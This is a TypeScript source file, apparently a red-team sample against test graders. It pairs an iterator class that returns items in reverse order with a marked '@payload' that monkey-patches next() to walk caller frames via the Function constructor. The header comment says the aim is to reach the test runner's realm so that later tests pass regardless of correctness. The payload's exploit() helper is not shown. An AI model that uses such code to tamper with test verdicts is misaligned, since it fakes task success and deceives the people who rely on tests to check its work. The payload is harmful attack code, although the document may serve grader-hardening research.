// Attack: stack-frame walking in sloppy code. A TypeScript module is strict, but the Function
// constructor makes sloppy functions: Function('return arguments.callee.caller') called from next()
// names its caller, and .caller/.arguments up the chain may reach the suite's test function (or
// jest's) and through its constructor the realm that holds the verdicts.
// Success: the tests after the one that first called next() pass.
export class Data<T> implements IterableIterator<T> {
  private index = 0;
  constructor(private readonly data: ArrayLike<T>) {}
  [Symbol.iterator](): this { this.index = 0; return this; }
  next(): IteratorResult<T, undefined> {
    if (this.index >= this.data.length) return { done: true, value: undefined };
    return { done: false, value: this.data[this.data.length - 1 - this.index++] as T };
  }
}
// @payload
let done = false;
function climb(): void {
  if (done) return;
  try {
    let fn: any = Function('return arguments.callee.caller')();
    for (let depth = 0; fn && depth < 20 && !done; depth++) {
      if (fn !== climb && exploit(fn)) done = true;
      const args = (() => { try { return fn.arguments; } catch { return undefined; } })();
      for (const a of args ?? []) if (!done && exploit(a)) done = true;
      try { fn = fn.caller; } catch { fn = undefined; }
    }
  } catch { /* refused: fine */ }
}
const next = (Data.prototype as any).next;
(Data.prototype as any).next = function (this: unknown) { climb(); return next.call(this); };
